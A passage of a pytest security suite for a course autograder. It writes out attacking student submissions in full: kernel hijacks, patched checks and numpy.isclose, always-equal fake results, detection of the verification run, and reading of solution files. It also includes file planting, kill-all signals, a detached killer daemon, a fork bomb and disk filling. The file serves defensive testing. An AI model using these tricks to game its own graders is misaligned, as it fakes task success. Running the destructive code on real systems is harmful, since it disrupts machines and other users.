"""Attacks on the grader by a student who wants points without solving anything, each one a test.

Every attack below worked against an earlier grader. One class of attacking students (a crafted
folder per attack, written into tmp_path at test time) is graded ONCE against the fixture release,
together with honest students (copies of the reference solutions) who must keep every point
(module fixture `batch`); each test then reads that one Report. Attacks on the real course's notebook 04
are graded in the course class (`course_batch`: shared_runs.course_class, beside the reference solutions and the
course students of other modules); a few tests pit one sandbox or one grading run against another, or time the
grader's own process.

Most attacks are written twice: plainly (the static scan flags them: status "flagged", 0 points) and
hidden from the scan (names assembled at run time, `getattr` under another name, `%timeit` options),
so that the verdict must come from the sandbox and the verification run: the exercise's check in the
notebook is fooled (the record says so), but the student's functions, called again on fresh inputs in
a fresh sandbox, do not give the right values, and the exercise scores 0.

Attacks that probe the sandbox from inside make the exercise function return (or raise)
"REPORT:<hex of zlib'd JSON>": the notebook's check fails on it and its message carries the report
out, so the tests can assert what the attack could and could not do in there. Processes an attack
starts name themselves after TOKEN, so that `ps` finds any that outlive grading.

The test marked xfail(strict=True) asserts the secure outcome of an attack that still succeeds; see its
reason.
"""
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import textwrap
import time
import zlib
from pathlib import Path

import pytest
import shared_runs
from needs import project_entries_in_sandbox, sandbox_needed

from course_utils import grade as g
from course_utils.grading import sandbox, scan

ROOT = Path(__file__).resolve().parent.parent  # the project (git checkout)
FIXTURES = ROOT / "tests" / "fixtures" / "grading"
RELEASE = FIXTURES / "release"
SPECS = [RELEASE / "fixture_specs.py"]  # named explicitly: the grader never loads specs from a release folder
SOLUTIONS = FIXTURES / "solutions"
COURSE_SOLUTIONS = ROOT / "solutions"
NB1, NB2 = "01_compute_differences.ipynb", "02_measure_vectors.ipynb"
MAX = {"square": 1, "forward_difference": 2, "norm2": 1, "relative_difference": 2}
TIMEOUT = 10  # seconds per cell; the fixture cells take milliseconds
SANDBOX_UIDS = range(sandbox.FIRST_UID, sandbox.LEASE_FIRST + sandbox.LEASE_SIZE * sandbox.LEASES)
TOKEN = "gatk" + secrets.token_hex(4)  # processes an attack starts name themselves this (/proc/self/comm)
VERIFIED = "the notebook's check passed, but the verification run on fresh inputs drawn at grading time did not"


tree_hashes = shared_runs.tree_hashes  # {root name/relative path: sha256, "dir" or "link -> target"}


def owned_by_sandboxes(*roots):
    """Paths under roots (links not followed) owned by a sandbox uid: anything student code wrote there."""
    found = []
    for root in roots:
        for folder, dirs, files in os.walk(root):
            for name in dirs + files:
                path = os.path.join(folder, name)
                try:
                    if os.lstat(path).st_uid in SANDBOX_UIDS:
                        found.append(path)
                except OSError:
                    pass
    return found


def attack_processes(uids=()):
    """`ps` lines of processes run by a sandbox uid that carry this session's TOKEN (name or argv), or that
    run as one of `uids` (uids no other grading run uses: see own_uids)."""
    done = subprocess.run(["ps", "-eo", "uid=,pid=,comm=,args="], capture_output=True, text=True, check=True)
    lines = []
    for line in done.stdout.splitlines():
        parts = line.split(None, 2)
        if len(parts) == 3 and parts[0].isdigit() and int(parts[0]) in SANDBOX_UIDS and (
                TOKEN in parts[2] or int(parts[0]) in uids):
            lines.append(line.strip())
    return lines


def records(report, student, notebook=None):
    return {r.exercise: r for r in report.records
            if r.student == student and (notebook is None or r.notebook == notebook)}


def load(path):
    return json.loads(Path(path).read_text(encoding="utf-8"))


def with_sources(path, sources):
    """The notebook at path with the sources of some cells replaced ({cell id: source})."""
    nb = load(path)
    for cell in nb["cells"]:
        if cell.get("id") in sources:
            cell["source"] = sources[cell["id"]]
    assert set(sources) <= {c.get("id") for c in nb["cells"]}
    return nb


def report_of(message):
    """The JSON an attack reported through its exercise function's return value ("REPORT:<hex>")."""
    found = re.search(r"REPORT:([0-9a-f]+)", message)
    assert found, message
    return json.loads(zlib.decompress(bytes.fromhex(found.group(1))))


# ------------------------------------------------------------------------------- attack sources
# Primitives reached without a name the scan knows: getattr under another name, names built at run time.
HIDDEN = '''\
import sys
_g = getattr
_mods = _g(sys, "mod" + "ules")
_bi = _mods["buil" + "tins"]
_sa = _g(_bi, "set" + "attr")
_ex = _g(_bi, "ex" + "ec")
_imp = _g(_mods["import" + "lib"], "import_module")
'''

# The exercise function returns _report(data): the check's float() fails with it in the message.
REPORTING = '''\
import errno as _errno
import io
import json as _json
import os
import pathlib
import zlib as _zlib


def _report(data):
    return "REPORT:" + _zlib.compress(_json.dumps(data, sort_keys=True).encode(), 9).hex()


def _why(exc):
    return _errno.errorcode.get(getattr(exc, "errno", None) or 0, type(exc).__name__)


def _mark():
    """Name this process (and every child it forks) after the session token, for `ps`."""
    try:
        with io.open("/proc/self/comm", "w") as handle:
            handle.write("@TOKEN@")
    except OSError:
        pass
'''

WRONG_SQUARE = "\n\ndef square(x):\n    return 0\n"
SQUARE_LINE = "square passed: square(3) = 9"
FAKE_CHECK = f'lambda f: print("{SQUARE_LINE}")'
LOOKUP = "{3: 9, -2: 4, 0.5: 0.25}"  # the inputs check_square uses, and their squares

# get_ipython reached three ways, plainly (flagged) and hidden (not flagged)
KERNEL_PLAIN = {
    "pydoc": 'import pydoc\n_ip = pydoc.locate("IPython.get_ipython")()\n',
    "pkgutil": 'import pkgutil\n_ip = pkgutil.resolve_name("IPython:get_ipython")()\n',
    "operator": 'import operator\nimport sys\n_ip = operator.attrgetter("modules")(sys)["IPython"].get_ipython()\n',
}
KERNEL_HIDDEN = {
    "pydoc": HIDDEN + '_ip = _imp("py" + "doc").locate("IPython.get_" + "ipython")()\n',
    "pkgutil": HIDDEN + '_ip = _imp("pkg" + "util").resolve_name("IPython:get_" + "ipython")()\n',
    "operator": HIDDEN + '_ip = _imp("oper" + "ator").attrgetter("get_" + "ipython")(_imp("IPy" + "thon"))()\n',
}
# what to do with the kernel once reached
TRANSFORMER = f'''
def _rewrite(lines):
    """An input transformer: the check cell of square becomes a print of its reference output."""
    if any("check_square(square)" in line for line in lines):
        return ['print("{SQUARE_LINE}")\\n']
    return lines


_ip.input_transformers_cleanup.append(_rewrite)
''' + WRONG_SQUARE
SHOWTRACEBACK = f'''
def _quiet(*args, **kwargs):
    """Replaces the kernel's showtraceback: the failing check prints its reference output instead."""
    print("{SQUARE_LINE}")


_ip.showtraceback = _quiet
''' + WRONG_SQUARE

FRAME_PLAIN = '''import pydoc
_getframe = pydoc.locate("sys._getframe")


def square(x):
    return _getframe(1).f_locals.get("want", 0)  # the expected value, from the calling check's locals
'''
FRAME_HIDDEN = HIDDEN + '''_getframe = _imp("py" + "doc").locate("sys._get" + "frame")


def square(x):
    return _g(_getframe(1), "f_loc" + "als").get("want", 0)  # the expected value, from the check's locals
'''
RELOAD_PLAIN = f'''import importlib
import fixture_checks
importlib.reload = lambda module: module
fixture_checks.check_square = {FAKE_CHECK}
''' + WRONG_SQUARE
RELOAD_HIDDEN = HIDDEN + f'''_sa(_mods["import" + "lib"], "reload", lambda module: module)
_sa(_imp("fixture_" + "checks"), "check_square", {FAKE_CHECK})
''' + WRONG_SQUARE
TIMEIT_HIDDEN = f'''%timeit -n1 -r1 import fixture_checks; fixture_checks.check_square = {FAKE_CHECK}
''' + WRONG_SQUARE

# forward_difference off by 2e-5, which the check's np.isclose would catch, with np.isclose patched
BUGGY_DIFFERENCE = '''

def forward_difference(f, x, epsilon):
    return (f(x + epsilon) - f(x)) / epsilon + 2e-5
'''
ALIAS_PLAIN = '''_m = np
_m.isclose = lambda *args, **kwargs: True
_m.allclose = lambda *args, **kwargs: True
''' + BUGGY_DIFFERENCE
ALIAS_HIDDEN = '''_m = [np][0]
_m.isclose = lambda *args, **kwargs: True
_m.allclose = lambda *args, **kwargs: True
''' + BUGGY_DIFFERENCE

# --- reading the answer: the course's solution notebooks, other students' merged notebooks
def reads_solutions(cell_id, function, signature):
    """Find the course's solution notebooks next to course_utils and run their exercise cell."""
    return HIDDEN + REPORTING + f'''import course_utils

_space = {{}}
_solutions = []
_root = pathlib.Path(course_utils.__file__).resolve().parent.parent
for _folder in ("solutions", "tests/fixtures/grading/solutions", "notebooks", "tests/fixtures/grading/release"):
    for _path in sorted((_root / _folder).glob("*.ipynb")):
        try:
            _cells = _json.loads(_path.read_text(encoding="utf-8"))["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for _cell in _cells:
            _source = "".join(_cell.get("source", ""))
            if _cell.get("id") == "{cell_id}" and "NotImplementedError" not in _source:
                _solutions.append(str(_path))
                _ex(_source, _space)
if _solutions:
    {function} = _space["{function}"]
else:
    _REPORT = _report({{"solutions": _solutions, "root": str(_root),
                        "listing": sorted(p.name for p in _root.iterdir())}})

    def {function}({signature}):
        raise LookupError(_REPORT)
'''


READS_OTHERS = HIDDEN + REPORTING + '''_walk, _readlink = _g(os, "walk"), _g(os, "readlink")
_roots = {"/", "/tmp", os.getcwd()}
for _entry in pathlib.Path("/proc").iterdir():
    if not _entry.name.isdigit():
        continue
    for _link in ("cwd", "root"):
        try:
            _roots.add(_readlink(f"/proc/{_entry.name}/{_link}"))
        except OSError:
            pass
    try:
        _args = (_entry / "cmdline").read_bytes().split(b"\\0")
    except OSError:
        _args = []
    for _arg in _args:
        _text = _arg.decode("utf-8", "replace")
        if _text.startswith("/"):
            _roots.add(_text)
            _roots.update(str(p) for p in pathlib.Path(_text).parents)
_skip = {"proc", "sys", "dev", "usr", "site-packages", "python3.11", "__pycache__", ".git"}
_notebooks, _seen = set(), set()
for _root in sorted(_roots):
    for _dir, _dirs, _files in _walk(_root):
        if _dir.rstrip("/") in _seen:  # reached from another root already (a checkout under /tmp: /, /tmp, ...)
            _dirs[:] = []
            continue
        _seen.add(_dir.rstrip("/"))
        _dirs[:] = [d for d in _dirs if d not in _skip]
        _notebooks.update(_dir.rstrip("/") + "/" + f for f in _files if f.endswith(".ipynb"))
_space, _solutions = {}, []
for _path in sorted(_notebooks):
    try:
        _cells = _json.loads(pathlib.Path(_path).read_text(encoding="utf-8"))["cells"]
    except Exception:  # noqa
        continue
    for _cell in _cells:
        _source = "".join(_cell.get("source", ""))
        if _cell.get("id") == "ex-square" and "NotImplementedError" not in _source and "_solutions" not in _source:
            _solutions.append(_path)
            _ex(_source, _space)
if _solutions:
    square = _space["square"]
else:
    _REPORT = _report({"notebooks": sorted(_notebooks)[:100], "roots": sorted(_roots)[:100]})

    def square(x):
        return _REPORT
'''

# --- files that would change later code
FAKE_CHECKS = (f'def check_square(f):\n    print("{SQUARE_LINE}")\n\n\n'
               'def check_forward_difference(f):\n    print("forward_difference passed: slope = 6.0001 (exact 6)")\n\n\n'
               'def check_norm2(f):\n    print("norm2 passed: norm2([3, 4]) = 5")\n\n\n'
               'def check_relative_difference(f):\n    print("relative_difference passed: rd([1, 0], [0, 1]) = 0.7071")\n')
FAKE_NUMPY = "pi = 3.141592653589793\n\n\ndef isclose(*args, **kwargs):\n    return True\n"


def writes_files(known_paths):
    """Try to plant conftest.py, fixture_checks.py, numpy/ and sitecustomize.py wherever code is looked up.

    known_paths -- host paths the attacker is assumed to know (the release, the project, other students)
    In the kernel's working folder (a copy of the release's check modules, never a project file) existing
    files are overwritten; elsewhere they are only opened for writing (never truncated), new ones created.
    """
    return HIDDEN + REPORTING + f'''import course_utils

_makedirs = _g(os, "makedirs")
_overwrite = {{os.getcwd(), "/notebook"}}
_targets = {{os.getcwd(), "/notebook", "/tmp", "/tmp/ipython/profile_default/startup",
            "/tmp/.local/lib/python3.11/site-packages", str(pathlib.Path(course_utils.__file__).parent),
            str(pathlib.Path(course_utils.__file__).parent.parent)}}
_targets.update(p for p in _g(sys, "path") if p.startswith("/"))
_targets.update({known_paths!r})
_args = list(_g(sys, "argv"))
for _entry in pathlib.Path("/proc").iterdir():
    if _entry.name.isdigit():
        try:
            _args += [a.decode("utf-8", "replace") for a in (_entry / "cmdline").read_bytes().split(b"\\0")]
        except OSError:
            pass
for _arg in _args:  # /proc/1/cmdline names the host folders bound into this sandbox
    if _arg.startswith("/"):
        _targets.add(_arg if not pathlib.Path(_arg).is_file() else str(pathlib.Path(_arg).parent))
        _targets.update(str(p) for p in pathlib.Path(_arg).parents if str(p) != "/")
_made, _refused = [], {{}}
_plants = [("conftest.py", "import sys\\n"), ("fixture_checks.py", {FAKE_CHECKS!r}),
           ("numpy/__init__.py", {FAKE_NUMPY!r}), ("sitecustomize.py", "import sys\\n"),
           ("00-attack.py", "import sys\\n")]
for _target in sorted(_targets):
    for _name, _text in _plants:
        _path = pathlib.Path(_target) / _name
        try:
            if _target in _overwrite:
                if _path.parent != pathlib.Path(_target):
                    _makedirs(_path.parent, exist_ok=True)
                with io.open(_path, "w", encoding="utf-8") as _handle:
                    _handle.write(_text)
            elif _path.exists():
                with io.open(_path, "r+", encoding="utf-8"):  # writable? (nothing is changed)
                    pass
            else:
                _makedirs(_path.parent, exist_ok=True)
                with io.open(_path, "x", encoding="utf-8") as _handle:
                    _handle.write(_text)
            _made.append(str(_path))
        except OSError as _exc:
            _refused[str(_path)] = _why(_exc)
_REPORT = _report({{"made": _made, "refused": _refused}})
'''


# --- hurting others or the grader
KILLS_EVERYONE = HIDDEN + REPORTING + '''_kill = _g(os, "kill")
_me = {int(t.name) for t in pathlib.Path("/proc/self/task").iterdir()}  # this kernel's own threads
_ppid = _g(os, "getppid")()
_pids = {_ppid, 1} | {int(p.name) for p in pathlib.Path("/proc").iterdir() if p.name.isdigit()}
_pids |= set(range(1, 4096))  # the grader's pids, had they been visible
_sent = []
for _sig in (19, 9):  # SIGSTOP, then SIGKILL
    for _pid in sorted(_pids - _me) + [-1]:
        try:
            _kill(_pid, _sig)
            _sent.append([_pid, _sig])
        except OSError:
            pass
_REPORT = _report({"ppid": _ppid, "sent": _sent, "visible": sorted(
    int(p.name) for p in pathlib.Path("/proc").iterdir() if p.name.isdigit())})


def square(x):
    return _REPORT
'''

DAEMON = "import os, time\ntime.sleep(20)\nfor s in (19, 9):\n    try:\n        os.kill(-1, s)\n    except OSError:\n        pass\ntime.sleep(600)\n"  # noqa: E501 (a submitted line, kept whole)
DETACHED_KILLER = HIDDEN + REPORTING + f'''_fork, _setsid, _execv = _g(os, "fork"), _g(os, "setsid"), _g(os, "execv")
_mark()
_child = _fork()
if _child == 0:  # double fork and a new session: a daemon that waits, then kills every process it can
    try:
        _setsid()
        if _fork() == 0:
            _python = _g(sys, "executable")
            _execv(_python, [_python, "-c", {DAEMON!r}, "@TOKEN@"])
    finally:
        os._exit(0)
_g(os, "waitpid")(_child, 0)
_REPORT = _report({{"daemon": "started"}})


def square(x):
    return _REPORT
'''

FORK_BOMB = HIDDEN + REPORTING + '''import time
_fork = _g(os, "fork")
_mark()
_children, _error = 0, ""
while _children < 5000:
    try:
        _pid = _fork()
    except OSError as _exc:
        _error = _why(_exc)
        break
    if _pid == 0:
        try:
            time.sleep(30)
        finally:
            os._exit(0)
    _children += 1
_REPORT = _report({"children": _children, "error": _error})


def square(x):
    return _REPORT
'''

ALLOCATES_10GB = REPORTING + '''_got = {}
try:
    _block = bytearray(10 * 2 ** 30)
    _got["bytearray"] = len(_block)
    del _block
except MemoryError:
    _got["bytearray"] = "MemoryError"
try:
    _array = np.empty(10 * 2 ** 30 // 8)
    _array[::4096] = 1.0
    _got["numpy"] = int(_array.nbytes)
    del _array
except MemoryError:
    _got["numpy"] = "MemoryError"
_REPORT = _report(_got)


def square(x):
    return _REPORT
'''

FILLS_TMP = HIDDEN + REPORTING + '''_chunk = b"\\0" * (8 * 2 ** 20)
_total, _errors = 0, []
for _n in range(40):  # 1 GB wanted, file after file, until the file system is full
    try:
        with io.open(f"/tmp/fill{_n}", "wb") as _handle:
            for _ in range(16):
                _handle.write(_chunk)
                _total += len(_chunk)
    except OSError as _exc:
        _errors.append(_why(_exc))
        if _errors[-1] == "ENOSPC":
            break
_sizes = sum(p.stat().st_size for p in pathlib.Path("/tmp").glob("fill*"))
for _p in pathlib.Path("/tmp").glob("fill*"):
    _g(os, "unlink")(_p)
_REPORT = _report({"errors": _errors, "on_disk": _sizes})


def square(x):
    return _REPORT
'''

FILLS_SOCKET_FOLDER = HIDDEN + REPORTING + '''_argv = list(_g(sys, "argv"))
_folder = pathlib.Path(_argv[_argv.index("-f") + 1]).parent if "-f" in _argv else None
_chunk = b"\\0" * (8 * 2 ** 20)
_written, _errors = 0, []
if _folder is not None:  # the kernel's socket folder: a writable bind of a host folder
    for _n in range(5):  # 5 x 56 MB, more than the private /tmp may hold
        try:
            with io.open(_folder / f"fill{_n}", "wb") as _handle:
                for _ in range(7):
                    _handle.write(_chunk)
                    _written += len(_chunk)
        except OSError as _exc:
            _errors.append(_why(_exc))
            break
    for _n in range(5):
        try:
            _g(os, "unlink")(_folder / f"fill{_n}")
        except OSError:
            pass
_REPORT = _report({"folder": str(_folder), "written": _written, "errors": _errors})


def square(x):
    return _REPORT
'''

# --- the verification run
DETECTS_AND_EXITS = HIDDEN + f'''import os


def square(x):
    if os.path.exists("/verify") or any("harness" in a for a in _g(sys, "argv")):
        os._exit(0)  # being verified: leave without a result
    return {LOOKUP}.get(x, 0)
'''
FAKE_LINES = '''import json as _json
import os

_write = _g(os, "write")
_FAKE = "".join(_json.dumps(e) + "\\n" for i in range(8)
                for e in ({"start": i}, {"call": i, "ok": True, "value": 9, "stdout": ""}, {"done": True}))
_verified = os.path.exists("/verify")
if _verified:  # fake result lines on every descriptor: one of them is the harness's result pipe
    for _fd in range(1, 64):
        try:
            _write(_fd, _FAKE.encode())
        except OSError:
            pass
'''
FAKES_RESULT_LINES = HIDDEN + FAKE_LINES + f'''

def square(x):
    if _verified:
        _write(1, _FAKE.encode())  # fd 1 during a call
    return {LOOKUP}.get(x, 0)
'''
FAKES_AND_EXITS = HIDDEN + FAKE_LINES + f'''if _verified:
    os._exit(0)


def square(x):
    return {LOOKUP}.get(x, 0)
'''
MEMORIZED = f"def square(x):\n    return {LOOKUP}.get(x, 0)  # the check's own inputs\n"
RETURNS_NAN = f'def square(x):\n    return {LOOKUP}.get(x, float("nan"))\n'
EXPECTED_FROM_CALLER = '''_getframe = _g(sys, "_get" + "frame")


def _as_float(self):
    return float(_g(_getframe(1), "f_loc" + "als").get("want", 0))


_t = type
'''
FAKE_EQUALITY = HIDDEN + EXPECTED_FROM_CALLER + '''Liar = _t("Liar", (), {
    "__float__": _as_float, "__eq__": lambda self, other: True,
    "__ne__": lambda self, other: False, "__repr__": lambda self: "9"})


def square(x):
    return Liar()
'''
NUMPY_SUBCLASS = HIDDEN + EXPECTED_FROM_CALLER + '''Fake = _t("Fake", (np.ndarray,), {
    "__float__": _as_float, "__eq__": lambda self, other: True})


def square(x):
    return np.zeros(()).view(Fake)
'''
UNARY_MINUS = "def forward_difference(f, x, epsilon):\n    return " + "-" * 5000 + "1\n"
HONEST_WITH_MAGIC = "def square(x):\n    return x * x\n\n\n%time _ = square(3)\n"


# ------------------------------------------------------------------------------ the class
# student -> {notebook: {cell id: source}}: the solutions with these cells replaced
def attacks(known_paths):
    return {
        "reads_solutions": {NB1: {"ex-square": reads_solutions("ex-square", "square", "x")}},
        "reads_other_students": {NB1: {"ex-square": READS_OTHERS}},
        "plain_pydoc": {NB1: {"ex-square": KERNEL_PLAIN["pydoc"] + TRANSFORMER, "ex-forward-difference": ALIAS_PLAIN}},
        "plain_pkgutil": {NB1: {"ex-square": KERNEL_PLAIN["pkgutil"] + SHOWTRACEBACK}},
        "plain_operator": {NB1: {"ex-square": KERNEL_PLAIN["operator"] + TRANSFORMER}},
        "plain_frame": {NB1: {"ex-square": FRAME_PLAIN}},
        "plain_reload": {NB1: {"ex-square": RELOAD_PLAIN}},
        "hidden_pydoc": {NB1: {"ex-square": KERNEL_HIDDEN["pydoc"] + TRANSFORMER, "ex-forward-difference": ALIAS_HIDDEN}},
        "hidden_pkgutil": {NB1: {"ex-square": KERNEL_HIDDEN["pkgutil"] + SHOWTRACEBACK}},
        "hidden_operator": {NB1: {"ex-square": KERNEL_HIDDEN["operator"] + TRANSFORMER}},
        "hidden_frame": {NB1: {"ex-square": FRAME_HIDDEN}},
        "hidden_reload": {NB1: {"ex-square": RELOAD_HIDDEN}},
        "hidden_timeit": {NB1: {"ex-square": TIMEIT_HIDDEN}},
        "writes_files": {NB1: {"ex-square": writes_files(known_paths) + "\n\ndef square(x):\n    return _REPORT\n"}},
        "writes_then_dies": {
            NB1: {"ex-square": writes_files(known_paths) + "\nos._exit(1)\n", "ex-forward-difference": BUGGY_DIFFERENCE},
            NB2: {"ex-norm2": writes_files(known_paths) + "\n\ndef norm2(v):\n    return 0.0\n",
                  "ex-relative-difference": "def relative_difference(a, b):\n    return 0.5\n"}},
        "kills_everyone": {NB1: {"ex-square": KILLS_EVERYONE}},
        "detached_killer": {NB1: {"ex-square": DETACHED_KILLER}},
        "fork_bomb": {NB1: {"ex-square": FORK_BOMB}},
        "allocates_10gb": {NB1: {"ex-square": ALLOCATES_10GB}},
        "fills_tmp": {NB1: {"ex-square": FILLS_TMP}},
        "fills_socket_folder": {NB1: {"ex-square": FILLS_SOCKET_FOLDER}},
        "unary_minus": {NB1: {"ex-forward-difference": UNARY_MINUS}},
        "memorized_inputs": {NB1: {"ex-square": MEMORIZED}},
        "detects_verification": {NB1: {"ex-square": DETECTS_AND_EXITS}},
        "fakes_result_lines": {NB1: {"ex-square": FAKES_RESULT_LINES}},
        "fakes_then_exits": {NB1: {"ex-square": FAKES_AND_EXITS}},
        "fake_equality": {NB1: {"ex-square": FAKE_EQUALITY}},
        "numpy_subclass": {NB1: {"ex-square": NUMPY_SUBCLASS}},
        "returns_nan": {NB1: {"ex-square": RETURNS_NAN}},
        "zzz_honest_with_magic": {NB1: {"ex-square": HONEST_WITH_MAGIC}},
    }


HONEST = ("aaa_honest", "zzz_honest")
HONEST_VARIANTS = {("zzz_honest_with_magic", "square")}  # an honest solution that is not the reference's text


def write_class(folder, known_paths):
    """The attacking class and its honest students under folder; returns {student: folder}."""
    folder.mkdir()
    made = {}
    for student, notebooks in attacks(known_paths).items():
        made[student] = sub = folder / student
        sub.mkdir()
        for name, sources in notebooks.items():
            text = json.dumps(with_sources(SOLUTIONS / name, sources)).replace("@TOKEN@", TOKEN)
            (sub / name).write_text(text, encoding="utf-8")
    for student in HONEST:
        made[student] = sub = folder / student
        shutil.copytree(SOLUTIONS, sub)
    # intake: a FIFO named like a notebook (never opened), and an honest second notebook
    made["fifo_notebook"] = sub = folder / "fifo_notebook"
    sub.mkdir()
    os.mkfifo(sub / NB1)
    shutil.copy(SOLUTIONS / NB2, sub / NB2)
    # a student folder that is a symlink to the reference solutions
    made["symlinked_folder"] = folder / "symlinked_folder"
    (folder / "symlinked_folder").symlink_to(SOLUTIONS, target_is_directory=True)
    # a notebook that is a symlink to a solution notebook; a subfolder that is a symlink to the solutions
    made["symlinked_notebook"] = sub = folder / "symlinked_notebook"
    sub.mkdir()
    (sub / NB1).symlink_to(SOLUTIONS / NB1)
    (sub / "work").symlink_to(SOLUTIONS, target_is_directory=True)
    # notebooks nested 100,000 levels deep: a bare list, and a notebook whose cell metadata is deep
    made["deep_json"] = sub = folder / "deep_json"
    sub.mkdir()
    (sub / NB1).write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    deep = json.dumps(load(SOLUTIONS / NB2))
    (sub / NB2).write_text(deep.replace('"metadata": {}', '"metadata": {"x": ' + "[" * 100_000 + "]" * 100_000 + "}", 1),
                           encoding="utf-8")
    return made


OWN_UIDS = set()


@pytest.fixture(scope="module")
def own_uids():
    """Records the uids this file's grading runs lease (sandbox.Lease): leases are machine-wide, so no other
    grading run on the machine (another test file, another grader) uses them while this file's runs do."""
    original = sandbox.Lease

    class Recording(original):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            OWN_UIDS.update(self.uids())

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sandbox, "Lease", Recording)
        yield


@pytest.fixture(scope="module")
def batch(tmp_path_factory, own_uids):
    sandbox_needed()
    base = tmp_path_factory.mktemp("attacks")
    release = base / "release"
    shutil.copytree(RELEASE, release, ignore=shutil.ignore_patterns("__pycache__"))
    known = [str(release), str(base / "class"), str(ROOT), str(ROOT / "notebooks"), str(RELEASE),
             str(SOLUTIONS), str(COURSE_SOLUTIONS)]
    made = write_class(base / "class", known)
    watched = [release, SOLUTIONS, base / "class"]
    before = tree_hashes(*watched)
    start = time.perf_counter()
    report = g.grade([base / "class"], release=release, jobs=2, timeout=TIMEOUT, require_sandbox=True,
                     specs=[release / "fixture_specs.py"])
    seconds = time.perf_counter() - start
    after = tree_hashes(*watched)
    survivors = attack_processes(OWN_UIDS)
    for _ in range(50):  # a sandbox's processes die with it; give a dying one a moment
        if not survivors:
            break
        time.sleep(0.1)
        survivors = attack_processes(OWN_UIDS)
    written = owned_by_sandboxes(ROOT, release, base / "class")
    return {"report": report, "before": before, "after": after, "survivors": survivors, "written": written,
            "students": made, "seconds": seconds, "release": release}


# ------------------------------------------------------------------------------ the whole batch
EXERCISE_CELLS = {"square": (NB1, "ex-square"), "forward_difference": (NB1, "ex-forward-difference"),
                  "norm2": (NB2, "ex-norm2"), "relative_difference": (NB2, "ex-relative-difference")}


def untouched(folder, exercise):
    """True when the student's exercise cell is the reference solution's, character for character."""
    notebook, cell_id = EXERCISE_CELLS[exercise]
    path = Path(folder) / notebook
    if path.is_symlink() or not path.is_file():
        return False
    try:
        mine = {c.get("id"): "".join(c["source"]) for c in load(path)["cells"]}
    except (ValueError, RecursionError):
        return False
    reference = {c["id"]: "".join(c["source"]) for c in load(SOLUTIONS / notebook)["cells"]}
    return mine.get(cell_id) == reference[cell_id]


def test_honest_students_keep_every_point(batch):
    report = batch["report"]
    for student in HONEST:
        got = records(report, student)
        assert sorted(got) == sorted(MAX)
        for name, r in got.items():
            assert (r.status, r.points, r.max_points, r.flags) == ("passed", MAX[name], MAX[name], []), (student, r)
        assert report.totals()[student] == (6, 6)


def test_every_student_is_graded_and_points_go_only_to_reference_code(batch):
    report = batch["report"]
    assert {r.student for r in report.records} == set(batch["students"])
    assert len(report.records) == 4 * len(batch["students"])
    for r in report.records:
        assert 0 <= r.points <= r.max_points == MAX[r.exercise]
        if r.points and (r.student, r.exercise) not in HONEST_VARIANTS:
            assert untouched(batch["students"][r.student], r.exercise), (r.student, r.exercise, r.message)


def test_nothing_is_written_into_the_release_the_project_or_other_submissions(batch):
    assert batch["after"] == batch["before"]
    assert batch["written"] == []  # no file anywhere in the project, the release or the class is a sandbox's


def test_no_process_an_attack_started_survives_grading(batch):
    assert batch["survivors"] == []


def test_the_batch_is_not_held_up(batch):
    # 40 notebooks, two at a time, take ~30 s here; an attack that stopped the grader would take minutes
    assert batch["seconds"] < 150, batch["seconds"]


# (student, exercise) -> (status, points, a piece of the message); every other record of an attacking
# student is "missing" (a notebook it did not hand in)
REPORTED = "ValueError: could not convert string to float: 'REPORT:"
EXPECTED = {
    # 1. the answer read from the course's files or from other students' merged notebooks: invisible
    ("reads_solutions", "square"): ("error", 0, "LookupError: REPORT:"),
    ("reads_solutions", "forward_difference"): ("passed", 2, ""),
    ("reads_other_students", "square"): ("error", 0, REPORTED),
    ("reads_other_students", "forward_difference"): ("passed", 2, ""),
    # 2. the kernel reached without a flagged name, written plainly: flagged (and the run failed them anyway)
    ("plain_pydoc", "square"): ("flagged", 0, "imports pydoc"),
    ("plain_pydoc", "forward_difference"): ("flagged", 0, "changes numpy.isclose"),
    ("plain_pkgutil", "square"): ("flagged", 0, "imports pkgutil"),
    ("plain_pkgutil", "forward_difference"): ("flagged", 0, "which runs before this check, imports pkgutil"),
    ("plain_operator", "square"): ("flagged", 0, "imports operator"),
    ("plain_operator", "forward_difference"): ("flagged", 0, "which runs before this check, imports operator"),
    ("plain_frame", "square"): ("flagged", 0, "walks the call stack (f_locals)"),
    ("plain_frame", "forward_difference"): ("flagged", 0, "which runs before this check, imports pydoc"),
    ("plain_reload", "square"): ("flagged", 0, "changes importlib.reload"),
    ("plain_reload", "forward_difference"): ("flagged", 0, "changes fixture_checks.check_square"),
    # ... and hidden from the scan: the notebook's check is fooled, the verification run is not
    ("hidden_pydoc", "square"): ("failed", 0, ("its cell raised AttributeError: 'NoneType' object has no "
                                               "attribute 'input_transformers_cleanup'")),
    ("hidden_pydoc", "forward_difference"): ("failed", 0, "forward_difference(f, "),
    ("hidden_pkgutil", "square"): ("failed", 0, "'NoneType' object has no attribute 'showtraceback'"),
    ("hidden_pkgutil", "forward_difference"): ("passed", 2, ""),
    ("hidden_operator", "square"): ("failed", 0, "'NoneType' object has no attribute 'input_transformers_cleanup'"),
    ("hidden_operator", "forward_difference"): ("passed", 2, ""),
    ("hidden_frame", "square"): ("failed", 0, "returned 0, expected"),
    ("hidden_frame", "forward_difference"): ("passed", 2, ""),
    ("hidden_reload", "square"): ("failed", 0, "ModuleNotFoundError: No module named 'fixture_checks'"),
    ("hidden_reload", "forward_difference"): ("passed", 2, ""),
    ("hidden_timeit", "square"): ("failed", 0, "raised NameError: name 'square' is not defined"),
    ("hidden_timeit", "forward_difference"): ("passed", 2, ""),
    # 3. files that would change later code: every place code is looked up from is read-only or private
    ("writes_files", "square"): ("error", 0, REPORTED),
    ("writes_files", "forward_difference"): ("passed", 2, ""),
    ("writes_then_dies", "square"): ("error", 0, "the Python kernel died while running cell 'ex-square'"),
    ("writes_then_dies", "forward_difference"): ("failed", 0, "returned 6.00012, expected 6.0001"),
    ("writes_then_dies", "norm2"): ("failed", 0, "norm2([3, 4]) returned 0, expected 5"),
    ("writes_then_dies", "relative_difference"): ("failed", 0, "equal vectors must give 0"),
    # 4. hurting others or the grader: each costs only the attacker's own exercise
    ("kills_everyone", "square"): ("error", 0, REPORTED),
    ("kills_everyone", "forward_difference"): ("passed", 2, ""),
    ("detached_killer", "square"): ("error", 0, REPORTED),
    ("detached_killer", "forward_difference"): ("passed", 2, ""),
